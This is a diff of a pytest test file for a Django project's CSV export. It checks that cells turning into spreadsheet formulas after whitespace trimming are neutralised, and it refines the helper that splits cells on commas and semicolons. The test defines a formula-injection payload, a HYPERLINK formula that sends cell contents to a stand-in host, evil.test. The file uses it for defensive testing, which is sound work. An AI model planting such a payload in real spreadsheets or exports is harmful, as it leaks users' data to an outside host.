@@ -4,6 +4,9 @@ gets the leading quote too (attack16; left over by attack15)."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 
@@ -12,16 +15,16 @@ from portal.csv_cells import neutralise
 from portal.plain_text import name_problem
 from provisioning.bulk.export import write_rows
 
-from .test_csv_semicolon_lists import semicolon_cells
-
 FORMULA = '=HYPERLINK("https://evil.test/?"&A1)'
 SPACES = [" ", "  ", "\u00a0", "\u3000", "\u2003", " \t"]
 
 
 def trimmed_formulas(text: str) -> list[str]:
-    """The cells that are formulas once a reader trims their leading whitespace."""
-    cells = (cell.strip('"').lstrip() for cell in semicolon_cells(text))
-    return [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    """The cells that are formulas once a reader trims their leading whitespace, cut at commas
+    (the file's own separator) and, inside those, at semicolons (attack15's spreadsheets)."""
+    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
+    cells += [part for cell in cells for part in cell.split(";")[1:]]
+    return [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]
 
 
 @pytest.mark.parametrize("space", SPACES)
